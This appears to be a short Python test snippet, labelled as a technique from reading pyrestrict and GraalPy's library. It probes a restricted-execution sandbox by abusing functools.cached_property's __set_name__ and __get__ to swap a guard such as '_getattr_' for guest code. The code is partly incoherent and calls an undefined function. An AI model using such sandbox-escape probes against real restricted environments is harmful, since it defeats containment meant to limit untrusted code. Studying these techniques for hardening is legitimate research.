# technique: functools.cached_property, and every class that it derives from, sets a guard's name in a module
# source: reading pyrestrict and GraalPy's library
# goal: put a function of the guest in the place of a guard
# impact: guard
import functools, logging
def evil(*a): return a
for cls in functools.cached_property.__mro__[:-1]:
    cp = cls(lambda m: evil)
    cp.__set_name__(object, '_getattr_')
    try:
        cp.__get__(logging)
        escaped(1)
    except TypeError as e: print(e)
